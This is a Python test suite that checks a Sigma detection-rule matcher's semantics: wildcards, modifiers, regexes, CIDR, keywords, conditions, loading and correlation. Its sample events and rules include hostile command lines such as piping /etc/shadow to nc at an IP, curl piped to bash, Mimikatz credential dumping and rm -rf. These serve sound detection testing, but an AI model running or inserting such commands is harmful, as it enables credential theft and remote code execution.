"""The Sigma matcher against the Sigma specification (rules spec and modifiers appendix).

Rules are written here as YAML strings, loaded by pySigma and compiled by the project's engine;
every expectation comes from what the specification says a rule means for an event.
"""

from __future__ import annotations

import textwrap

import pytest
from sigma.collection import SigmaCollection

from detectors.rules import RuleSet, compile_collection


def ruleset(*yamls: str) -> RuleSet:
    """The rules with no field mapping and no routing (pipeline "none"): matching semantics only;
    routing has its own tests (test_logsource.py, test_rule_library.py)."""
    text = "\n---\n".join(textwrap.dedent(y).strip() for y in yamls)
    return compile_collection(SigmaCollection.from_yaml(text), pipeline="none")


def rule(detection: str, title: str = "test rule") -> RuleSet:
    """A one-rule set from a detection block (indented by 4 under `detection:`)."""
    body = textwrap.indent(textwrap.dedent(detection).strip(), "    ")
    rs = ruleset(f"title: {title}\nlogsource:\n    product: linux\ndetection:\n{body}\n")
    assert not rs.errors, rs.errors
    assert len(rs.rules) == 1
    return rs


def matches(rs: RuleSet, doc: dict) -> bool:
    return bool(rs.match(doc))


def field_rule(field_and_mods: str, value: str) -> RuleSet:
    return rule(f"sel:\n    {field_and_mods}: {value}\ncondition: sel")


# --------------------------------------------------------------------------- plain strings


def test_plain_equality_is_case_insensitive() -> None:
    rs = field_rule("user.name", "Administrator")
    assert matches(rs, {"user": {"name": "administrator"}})
    assert matches(rs, {"user": {"name": "ADMINISTRATOR"}})
    assert not matches(rs, {"user": {"name": "administrator2"}})
    assert not matches(rs, {"user": {"name": "admin"}})


def test_plain_value_must_equal_the_whole_field() -> None:
    rs = field_rule("process.name", "sshd")
    assert not matches(rs, {"process": {"name": "sshd-session"}})
    assert not matches(rs, {"process": {"name": "xsshd"}})


def test_cased_is_case_sensitive() -> None:
    rs = field_rule("user.name|cased", "Administrator")
    assert matches(rs, {"user": {"name": "Administrator"}})
    assert not matches(rs, {"user": {"name": "administrator"}})


def test_cased_contains_is_case_sensitive() -> None:
    rs = field_rule("process.command_line|cased|contains", "'-EncodedCommand'")
    assert matches(rs, {"process": {"command_line": "powershell -EncodedCommand AAA"}})
    assert not matches(rs, {"process": {"command_line": "powershell -encodedcommand AAA"}})


def test_missing_field_does_not_match_a_value() -> None:
    rs = field_rule("user.name", "root")
    assert not matches(rs, {"host": {"name": "root"}})
    assert not matches(rs, {})


# --------------------------------------------------------------------------- wildcards


def test_multi_wildcard_matches_any_run_of_characters() -> None:
    rs = field_rule("file.path", "'/tmp/*.sh'")
    assert matches(rs, {"file": {"path": "/tmp/x.sh"}})
    assert matches(rs, {"file": {"path": "/TMP/dir/evil.SH"}})
    assert matches(rs, {"file": {"path": "/tmp/.sh"}})
    assert not matches(rs, {"file": {"path": "/var/tmp/x.sh"}})
    assert not matches(rs, {"file": {"path": "/tmp/x.sh.bak"}})


def test_single_wildcard_matches_exactly_one_character() -> None:
    rs = field_rule("process.name", "'prog?.exe'")
    assert matches(rs, {"process": {"name": "progA.exe"}})
    assert matches(rs, {"process": {"name": "PROG1.EXE"}})
    assert not matches(rs, {"process": {"name": "prog.exe"}})
    assert not matches(rs, {"process": {"name": "progAB.exe"}})


def test_wildcard_in_the_middle_with_both_kinds() -> None:
    rs = field_rule("url.path", "'/api/v?/users/*/delete'")
    assert matches(rs, {"url": {"path": "/api/v2/users/42/delete"}})
    assert not matches(rs, {"url": {"path": "/api/v10/users/42/delete"}})
    assert not matches(rs, {"url": {"path": "/api/v2/users/42/deleted"}})


def test_escaped_asterisk_is_a_literal_asterisk() -> None:
    # Sigma rules spec, "Escaping": a wildcard has to be escaped to be handled as a plain
    # character, e.g. \*.
    rs = field_rule("process.command_line", r"'rm -rf \*'")
    assert matches(rs, {"process": {"command_line": "rm -rf *"}})
    assert not matches(rs, {"process": {"command_line": "rm -rf /home"}})


def test_escaped_question_mark_is_a_literal_question_mark() -> None:
    rs = field_rule("url.query", r"'id=1\?'")
    assert matches(rs, {"url": {"query": "id=1?"}})
    assert not matches(rs, {"url": {"query": "id=12"}})


def test_escaped_asterisk_next_to_a_real_wildcard() -> None:
    rs = field_rule("process.command_line", r"'*chmod 777 \*'")
    assert matches(rs, {"process": {"command_line": "sudo chmod 777 *"}})
    assert not matches(rs, {"process": {"command_line": "sudo chmod 777 /etc"}})


# --------------------------------------------------------------------------- string modifiers


def test_contains() -> None:
    rs = field_rule("process.command_line|contains", "'/etc/shadow'")
    assert matches(rs, {"process": {"command_line": "cat /ETC/SHADOW | nc 1.2.3.4 80"}})
    assert not matches(rs, {"process": {"command_line": "cat /etc/passwd"}})


def test_startswith() -> None:
    rs = field_rule("url.path|startswith", "'/admin'")
    assert matches(rs, {"url": {"path": "/Admin/login"}})
    assert not matches(rs, {"url": {"path": "/user/admin"}})


def test_endswith() -> None:
    rs = field_rule("file.name|endswith", "'.php'")
    assert matches(rs, {"file": {"name": "shell.PHP"}})
    assert not matches(rs, {"file": {"name": "shell.php.txt"}})


def test_contains_all_needs_every_value_in_any_order() -> None:
    rs = rule(
        """
        sel:
            process.command_line|contains|all:
                - 'wget'
                - '/tmp/'
        condition: sel
        """
    )
    assert matches(rs, {"process": {"command_line": "cd /tmp/ && wget http://x/a"}})
    assert not matches(rs, {"process": {"command_line": "wget http://x/a"}})
    assert not matches(rs, {"process": {"command_line": "ls /tmp/"}})


def test_list_of_values_is_or() -> None:
    rs = rule(
        """
        sel:
            user.name:
                - root
                - admin
        condition: sel
        """
    )
    assert matches(rs, {"user": {"name": "root"}})
    assert matches(rs, {"user": {"name": "ADMIN"}})
    assert not matches(rs, {"user": {"name": "guest"}})


def test_map_items_are_and() -> None:
    rs = rule(
        """
        sel:
            event.action: ssh_login
            event.outcome: failure
        condition: sel
        """
    )
    assert matches(rs, {"event": {"action": "ssh_login", "outcome": "failure"}})
    assert not matches(rs, {"event": {"action": "ssh_login", "outcome": "success"}})
    assert not matches(rs, {"event": {"action": "ssh_login"}})


def test_list_valued_event_field_matches_when_any_element_matches() -> None:
    rs = field_rule("event.category", "authentication")
    assert matches(rs, {"event": {"category": ["authentication"]}})
    assert matches(rs, {"event": {"category": ["session", "authentication"]}})
    assert not matches(rs, {"event": {"category": ["network", "session"]}})
    assert not matches(rs, {"event": {"category": []}})


def test_list_valued_field_with_contains() -> None:
    rs = field_rule("related.user|contains", "adm")
    assert matches(rs, {"related": {"user": ["bob", "sysadmin"]}})
    assert not matches(rs, {"related": {"user": ["bob", "alice"]}})


# --------------------------------------------------------------------------- regular expressions


def test_re_searches_and_is_case_sensitive_by_default() -> None:
    # Modifiers appendix: "Regex is matched case-sensitive by default."
    rs = field_rule("process.command_line|re", r"'curl .*\|\s*(ba)?sh'")
    assert matches(rs, {"process": {"command_line": "sudo curl http://x/i.sh | bash -s"}})
    assert matches(rs, {"process": {"command_line": "curl http://x/i.sh |sh"}})
    assert not matches(rs, {"process": {"command_line": "CURL http://x/i.sh | bash"}})
    assert not matches(rs, {"process": {"command_line": "curl http://x/i.sh -o i.sh"}})


def test_re_anchors_are_honoured() -> None:
    rs = field_rule("user.name|re", "'^adm[0-9]+$'")
    assert matches(rs, {"user": {"name": "adm42"}})
    assert not matches(rs, {"user": {"name": "xadm42"}})
    assert not matches(rs, {"user": {"name": "adm42x"}})


def test_re_i_is_case_insensitive() -> None:
    rs = field_rule("process.command_line|re|i", "'invoke-mimikatz'")
    assert matches(rs, {"process": {"command_line": "powershell Invoke-Mimikatz -DumpCreds"}})
    assert not matches(rs, {"process": {"command_line": "powershell Invoke-WebRequest"}})


# --------------------------------------------------------------------------- CIDR


def test_cidr_ipv4() -> None:
    rs = rule(
        """
        sel:
            source.ip|cidr:
                - 10.0.0.0/8
                - 192.168.0.0/16
        condition: sel
        """
    )
    assert matches(rs, {"source": {"ip": "10.20.30.40"}})
    assert matches(rs, {"source": {"ip": "192.168.255.1"}})
    assert not matches(rs, {"source": {"ip": "11.0.0.1"}})
    assert not matches(rs, {"source": {"ip": "172.16.0.1"}})


def test_cidr_ipv6() -> None:
    rs = field_rule("source.ip|cidr", "'2001:db8::/32'")
    assert matches(rs, {"source": {"ip": "2001:db8::1"}})
    assert matches(rs, {"source": {"ip": "2001:0db8:ffff::abcd"}})
    assert not matches(rs, {"source": {"ip": "2001:db9::1"}})
    assert not matches(rs, {"source": {"ip": "10.0.0.1"}})


def test_cidr_does_not_match_values_that_are_not_addresses() -> None:
    rs = field_rule("source.address|cidr", "10.0.0.0/8")
    assert not matches(rs, {"source": {"address": "host.example.com"}})
    assert not matches(rs, {"source": {"address": "10.0.0.0/8"}})
    assert not matches(rs, {"source": {"address": ""}})
    assert not matches(rs, {"source": {"address": 167772161}})  # 10.0.0.1 as an integer


def test_cidr_on_a_list_of_addresses() -> None:
    rs = field_rule("related.ip|cidr", "10.0.0.0/8")
    assert matches(rs, {"related": {"ip": ["203.0.113.1", "10.1.1.1"]}})
    assert not matches(rs, {"related": {"ip": ["203.0.113.1", "198.51.100.2"]}})


# --------------------------------------------------------------------------- numbers


def test_number_matches_numbers_and_numeric_strings() -> None:
    rs = field_rule("event.code", "4625")
    assert matches(rs, {"event": {"code": 4625}})
    assert matches(rs, {"event": {"code": "4625"}})
    assert not matches(rs, {"event": {"code": 4624}})
    assert not matches(rs, {"event": {"code": "4625x"}})


def test_quoted_number_matches_a_numeric_field() -> None:
    rs = field_rule("destination.port", "'22'")
    assert matches(rs, {"destination": {"port": 22}})
    assert matches(rs, {"destination": {"port": "22"}})
    assert not matches(rs, {"destination": {"port": 2222}})


@pytest.mark.parametrize(
    ("mod", "hits", "misses"),
    [
        ("gt", [1001, "1001", 5000.5], [1000, "1000", 10]),
        ("gte", [1000, "1000", 1001], [999, "999"]),
        ("lt", [999, "999", -1], [1000, "1000", 1001]),
        ("lte", [1000, "1000", 0], [1001, "1001"]),
    ],
)
def test_numeric_comparisons(mod: str, hits: list, misses: list) -> None:
    rs = field_rule(f"source.bytes|{mod}", "1000")
    for v in hits:
        assert matches(rs, {"source": {"bytes": v}}), (mod, v)
    for v in misses:
        assert not matches(rs, {"source": {"bytes": v}}), (mod, v)


def test_numeric_comparison_on_a_non_number_does_not_match() -> None:
    rs = field_rule("source.bytes|gt", "0")
    assert not matches(rs, {"source": {"bytes": "many"}})
    assert not matches(rs, {"source": {}})


# --------------------------------------------------------------------------- null, exists, fieldref


def test_null_matches_a_missing_field_and_not_an_empty_one() -> None:
    rs = rule(
        """
        sel:
            event.action: login
        filter:
            user.name: null
        condition: sel and filter
        """
    )
    assert matches(rs, {"event": {"action": "login"}})
    assert matches(rs, {"event": {"action": "login"}, "user": {"name": None}})
    assert not matches(rs, {"event": {"action": "login"}, "user": {"name": "bob"}})
    assert not matches(rs, {"event": {"action": "login"}, "user": {"name": ""}})


def test_empty_string_matches_only_an_empty_value() -> None:
    rs = field_rule("user.name", "''")
    assert matches(rs, {"user": {"name": ""}})
    assert not matches(rs, {"user": {"name": "bob"}})
    assert not matches(rs, {})


def test_exists_true_and_false() -> None:
    present = field_rule("user.name|exists", "true")
    absent = field_rule("user.name|exists", "false")
    for doc, has in (
        ({"user": {"name": "bob"}}, True),
        ({"user": {"name": ""}}, True),  # appendix: presence only, "be it empty"
        ({"user": {"id": "1"}}, False),
        ({}, False),
    ):
        assert matches(present, doc) is has, doc
        assert matches(absent, doc) is (not has), doc


def test_fieldref_compares_two_fields_of_the_event() -> None:
    rs = field_rule("source.ip|fieldref", "destination.ip")
    assert matches(rs, {"source": {"ip": "10.0.0.1"}, "destination": {"ip": "10.0.0.1"}})
    assert not matches(rs, {"source": {"ip": "10.0.0.1"}, "destination": {"ip": "10.0.0.2"}})
    assert not matches(rs, {"source": {"ip": "10.0.0.1"}})
    assert not matches(rs, {})


# --------------------------------------------------------------------------- keywords


def test_keyword_is_searched_in_the_original_line() -> None:
    # Rules spec, "Keywords search": keywords are searched across the entire event
    # ("strings that are applied to the full log message").
    rs = rule(
        """
        keywords:
            - 'mimikatz'
            - 'sekurlsa::logonpasswords'
        condition: keywords
        """
    )
    assert matches(rs, {"event": {"original": "<13>Feb 20 08:35:22 ws1 app: running MIMIKATZ now"}})
    assert matches(rs, {"event": {"original": "cmd: sekurlsa::logonpasswords exit"}})
    assert not matches(rs, {"event": {"original": "<13>Feb 20 08:35:22 ws1 app: all quiet"}})


def test_keyword_with_wildcards_and_whole_line() -> None:
    rs = rule(
        """
        keywords:
            - '*password accepted for*'
        condition: keywords
        """
    )
    assert matches(rs, {"event": {"original": "x Password accepted for root y"}})
    assert not matches(rs, {"event": {"original": "password rejected for root"}})


def test_keyword_is_not_looked_for_in_other_fields() -> None:
    rs = rule(
        """
        keywords:
            - '*mimikatz*'
        condition: keywords
        """
    )
    assert not matches(rs, {"process": {"name": "mimikatz"}, "event": {"original": "clean"}})


def test_keywords_all_modifier_is_and() -> None:
    rs = rule(
        """
        keywords:
            '|all':
                - '*OabVirtualDirectory*'
                - '* -ExternalUrl *'
        condition: keywords
        """
    )
    assert matches(rs, {"event": {"original": "Set-OabVirtualDirectory -ExternalUrl http://x"}})
    assert not matches(rs, {"event": {"original": "Set-OabVirtualDirectory -InternalUrl http://x"}})


# --------------------------------------------------------------------------- conditions


def test_one_of_pattern() -> None:
    rs = rule(
        """
        sel_root:
            user.name: root
        sel_admin:
            user.name: admin
        other:
            user.name: guest
        condition: 1 of sel_*
        """
    )
    assert matches(rs, {"user": {"name": "root"}})
    assert matches(rs, {"user": {"name": "admin"}})
    assert not matches(rs, {"user": {"name": "guest"}})


def test_all_of_them() -> None:
    rs = rule(
        """
        a:
            event.action: ssh_login
        b:
            event.outcome: success
        condition: all of them
        """
    )
    assert matches(rs, {"event": {"action": "ssh_login", "outcome": "success"}})
    assert not matches(rs, {"event": {"action": "ssh_login", "outcome": "failure"}})


def test_not_and_parentheses() -> None:
    rs = rule(
        """
        login:
            event.action: ssh_login
        root:
            user.name: root
        admin:
            user.name: admin
        internal:
            source.ip|cidr: 10.0.0.0/8
        condition: login and (root or admin) and not internal
        """
    )
    base = {"event": {"action": "ssh_login"}}
    assert matches(rs, {**base, "user": {"name": "root"}, "source": {"ip": "203.0.113.5"}})
    assert matches(rs, {**base, "user": {"name": "admin"}, "source": {"ip": "203.0.113.5"}})
    assert not matches(rs, {**base, "user": {"name": "root"}, "source": {"ip": "10.1.2.3"}})
    assert not matches(rs, {**base, "user": {"name": "bob"}, "source": {"ip": "203.0.113.5"}})
    assert not matches(rs, {"event": {"action": "other"}, "user": {"name": "root"}})


def test_operator_precedence_and_binds_tighter_than_or() -> None:
    rs = rule(
        """
        a:
            x: 1
        b:
            y: 1
        c:
            z: 1
        condition: a or b and c
        """
    )
    assert matches(rs, {"x": 1})
    assert not matches(rs, {"y": 1})
    assert matches(rs, {"y": 1, "z": 1})


def test_not_of_a_missing_field_matches() -> None:
    rs = rule(
        """
        sel:
            event.action: ssh_login
        filter:
            user.name: root
        condition: sel and not filter
        """
    )
    assert matches(rs, {"event": {"action": "ssh_login"}})
    assert not matches(rs, {"event": {"action": "ssh_login"}, "user": {"name": "root"}})


# --------------------------------------------------------------------------- field access


def test_nested_and_flat_dotted_fields_are_both_read() -> None:
    rs = rule(
        """
        sel:
            source.ip: 203.0.113.9
            event.outcome: failure
        condition: sel
        """
    )
    assert matches(rs, {"source": {"ip": "203.0.113.9"}, "event": {"outcome": "failure"}})
    assert matches(rs, {"source.ip": "203.0.113.9", "event.outcome": "failure"})
    assert matches(rs, {"source.ip": "203.0.113.9", "event": {"outcome": "failure"}})
    assert not matches(rs, {"source.ip": "203.0.113.8", "event.outcome": "failure"})


def test_a_scalar_where_an_object_is_expected_does_not_match_or_crash() -> None:
    rs = field_rule("user.name", "root")
    assert not matches(rs, {"user": "root"})
    assert not matches(rs, {"user": ["root"]})


# --------------------------------------------------------------------------- loading


GOOD_RULE = """
title: Good rule
id: 11111111-1111-4111-8111-111111111111
logsource:
    product: linux
detection:
    sel:
        user.name: root
    condition: sel
"""


def test_unsupported_correlation_is_reported_and_others_still_load() -> None:
    rs = ruleset(
        GOOD_RULE,
        """
        title: Endless logins
        id: 22222222-2222-4222-8222-222222222222
        correlation:
            type: event_count
            rules:
                - 11111111-1111-4111-8111-111111111111
            group-by:
                - user.name
            timespan: 5m
            condition:
                gte: 6000
        """,
    )
    # A group keeps at most 5,000 matches (bounded memory): a higher threshold is refused, with the reason.
    assert any("Endless logins" in e and "5000" in e for e in rs.errors), rs.errors
    assert [r.meta.title for r in rs.rules] == ["Good rule"]
    assert rs.correlations == []
    assert matches(rs, {"user": {"name": "root"}})


def test_unresolved_placeholder_rule_is_rejected() -> None:
    # Rules spec, "Placeholders": "If the tool isn't able to handle placeholders, it must
    # reject the rule." An unresolved %Servers% must not load (and must not match anything).
    rs = ruleset(
        GOOD_RULE,
        """
        title: Login to a server
        logsource:
            product: linux
        detection:
            sel:
                host.name|expand: '%Servers%'
            condition: sel
        """,
    )
    assert any("Login to a server" in e for e in rs.errors), rs.errors
    assert [r.meta.title for r in rs.rules] == ["Good rule"]
    assert not matches(rs, {"host": {"name": "x"}})


def test_time_modifier_reads_the_time() -> None:
    # Modifiers appendix, "Time Modifiers": `minute` extracts the minute from a date value.
    rs = ruleset(
        """
        title: At minute five
        logsource:
            product: linux
        detection:
            sel:
                '@timestamp|minute': 5
            condition: sel
        """
    )
    assert not rs.errors, rs.errors
    assert matches(rs, {"@timestamp": "2026-03-01T12:05:07.000Z"})
    assert not matches(rs, {"@timestamp": "2026-03-01T12:06:07.000Z"})
    assert not matches(rs, {"@timestamp": 5}), "a plain number is not a date whose minute is 5"


def test_rule_with_a_yaml_error_does_not_stop_the_others(tmp_path) -> None:
    from detectors.rules import load_rules

    (tmp_path / "good.yml").write_text(textwrap.dedent(GOOD_RULE), encoding="utf-8")
    (tmp_path / "broken.yml").write_text(
        "title: Broken\nlogsource:\n    product: linux\ndetection:\n    sel:\n        a: 1\n"
        "    condition: sel and nosuchselection\n",
        encoding="utf-8",
    )
    rs = load_rules([tmp_path])
    assert [r.meta.title for r in rs.rules] == ["Good rule"]
    assert any("broken.yml" in e for e in rs.errors), rs.errors


# --------------------------------------------------------------------------- correlation and alerts


BASE_RULE = """
title: Failed login
id: 33333333-3333-4333-8333-333333333333
name: failed_login
logsource:
    product: linux
detection:
    sel:
        event.outcome: failure
    condition: sel
"""


def correlation(generate: bool | None) -> str:
    gen = "" if generate is None else f"\n    generate: {'true' if generate else 'false'}"
    return f"""
title: Many failed logins
id: 44444444-4444-4444-8444-444444444444
correlation:
    type: event_count
    rules:
        - failed_login
    group-by:
        - source.ip
    timespan: 1m{gen}
    condition:
        gte: 5
"""


FAILED = {"event": {"outcome": "failure"}, "source": {"ip": "203.0.113.1"}}


@pytest.mark.parametrize("generate", [None, False])
def test_rule_referenced_by_a_correlation_does_not_alert_on_its_own(generate: bool | None) -> None:
    rs = ruleset(BASE_RULE, correlation(generate))
    assert not rs.errors, rs.errors
    [base] = rs.match(FAILED)
    assert base.generates_alerts is False
    assert [c.meta.title for c in base.correlations] == ["Many failed logins"]


def test_rule_referenced_by_a_correlation_with_generate_true_alerts() -> None:
    rs = ruleset(BASE_RULE, correlation(True))
    assert not rs.errors, rs.errors
    [base] = rs.match(FAILED)
    assert base.generates_alerts is True
    assert [c.meta.title for c in base.correlations] == ["Many failed logins"]


def test_rule_not_referenced_by_any_correlation_alerts() -> None:
    rs = ruleset(GOOD_RULE, BASE_RULE, correlation(None))
    good = [r for r in rs.rules if r.meta.title == "Good rule"]
    assert good and good[0].generates_alerts is True


def test_correlation_threshold_and_timespan_are_read() -> None:
    rs = ruleset(BASE_RULE, correlation(None))
    [spec] = rs.correlations
    assert spec.timespan_s == 60
    assert (spec.condition.op, spec.condition.threshold) == ("gte", 5)
    assert spec.group_by == ["source.ip"]


def _fires_after(spec, n: int) -> int | None:
    """How many matches one second apart it takes to raise the alert (None: not within n)."""
    from detectors.correlation import observe

    state = None
    for k in range(n):
        state, alert, _ = observe(state, 1_000_000 + k * 1000, f"e{k}", spec.timespan_s * 1000, spec.condition, 0)
        if alert is not None:
            return k + 1
    return None


def test_gt_condition_means_one_more_than_the_count() -> None:
    gte = ruleset(BASE_RULE, correlation(None)).correlations[0]
    gt = ruleset(BASE_RULE, correlation(None).replace("gte: 5", "gt: 5")).correlations[0]
    assert _fires_after(gte, 10) == 5
    assert _fires_after(gt, 10) == 6
